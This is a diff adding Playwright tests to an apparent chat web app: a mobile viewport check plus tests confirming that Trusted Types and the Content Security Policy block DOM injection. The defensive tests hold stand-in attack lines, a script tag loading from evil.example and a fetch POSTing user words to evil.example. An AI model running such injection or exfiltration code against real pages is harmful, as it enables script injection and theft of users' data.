@@ -103,6 +103,14 @@ def test_an_answer_is_shown_from_its_start(chat: Chat) -> None:
     assert 0 <= words["y"] - log["y"] < 30
 
 
+def test_a_long_message_does_not_push_its_answer_off_the_screen(chat: Chat) -> None:
+    chat.page.set_viewport_size({"width": 360, "height": 640})
+    chat.open()
+    chat.say("i dont know what to do " * 25)
+    expect(chat.replies.last.locator("p").first).to_be_in_viewport(ratio=1)
+    expect(chat.replies.last.get_by_role("link", name="Call").first).to_be_in_viewport()
+
+
 def test_a_choice_is_shown_as_the_persons_own_and_its_payload_never(chat: Chat) -> None:
     chat.open()
     choice = chat.choices.first
@@ -399,6 +407,30 @@ def test_markup_from_the_server_is_shown_as_words(chat: Chat) -> None:
     expect(chat.page.locator("img")).to_have_count(0)
     expect(chat.replies.last.locator(".words")).to_have_text(markup)
     expect(chat.choices).to_have_text([markup])
+
+
+BREACHES = {
+    "markup": "document.body.innerHTML = '<p>x</p>'",
+    "somebody else's script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+}
+
+
+@pytest.mark.parametrize("breach", BREACHES.values(), ids=BREACHES.keys())
+def test_the_security_policy_holds(chat: Chat, traffic: Traffic, breach: str) -> None:
+    """Trusted Types and all: were there a hole in the scripts, there would be nothing to put through it."""
+    traffic.expect("Trusted|Content Security Policy")
+    chat.open()
+    found = chat.page.evaluate(f"() => {{ try {{ {breach}; return 'done' }} catch (error) {{ return error.name }} }}")
+    assert found == "TypeError"
+    expect(chat.replies.first).to_be_visible()
+
+
+def test_the_policy_keeps_words_from_going_elsewhere(chat: Chat, traffic: Traffic) -> None:
+    traffic.expect("Content Security Policy|Refused to connect|violates")
+    chat.open()
+    sent = chat.page.evaluate("() => fetch('https://evil.example/', {method: 'POST', body: 'words'}).then(() => 'sent', e => e.name)")
+    assert sent == "TypeError"
+    assert traffic.foreign == []
 
 
 def test_two_tabs_share_nothing(chat: Chat, context: BrowserContext) -> None:
